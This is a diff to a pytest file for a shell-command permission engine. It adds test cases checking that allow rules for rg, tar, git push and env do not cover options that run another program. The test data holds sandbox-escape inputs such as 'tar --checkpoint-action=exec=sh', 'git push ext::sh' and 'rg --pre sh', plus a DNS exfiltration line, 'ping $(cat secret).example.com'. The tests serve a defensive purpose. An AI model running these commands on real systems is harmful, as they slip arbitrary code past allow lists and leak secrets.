@@ -125,6 +125,7 @@ def test_an_allow_rule_covers_only_what_is_certainly_that(
 
 
 BEYOND = 'prefix_rule(["rg"])\nprefix_rule(["sed"])\nprefix_rule(["ping"])\nprefix_rule(["make"])'
+BEYOND += '\nprefix_rule(["tar"])\nprefix_rule(["git", "push"])\nprefix_rule(["env"])'
 
 
 @pytest.mark.parametrize("engine", [BEYOND], indirect=True)
@@ -141,6 +142,19 @@ BEYOND = 'prefix_rule(["rg"])\nprefix_rule(["sed"])\nprefix_rule(["ping"])\npref
         ("ping $(cat secret).example.com", PROMPT),
         ("make all", ALLOW),
         ("make -f other all", ALLOW),
+        ("rg $x", ALLOW),
+        # nor where another word may run something too
+        ("rg $x --pre sh", PROMPT),
+        # nor an operand that is as good as an option, nor the beginning of an option
+        ("tar cf a b", ALLOW),
+        ("tar cf a b --checkpoint-action=exec=sh", PROMPT),
+        ("tar -cf a b --use-compress-prog=sh", PROMPT),
+        ("git push origin main", ALLOW),
+        ("git push ext::sh", PROMPT),
+        ("git push --receive-pac=sh", PROMPT),
+        # nor a command that begins nobody knows where
+        ("env A=b ls", PROMPT),
+        ("env $x ls", PROMPT),
     ],
 )
 def test_an_open_tail_covers_no_option_that_runs_something_else(
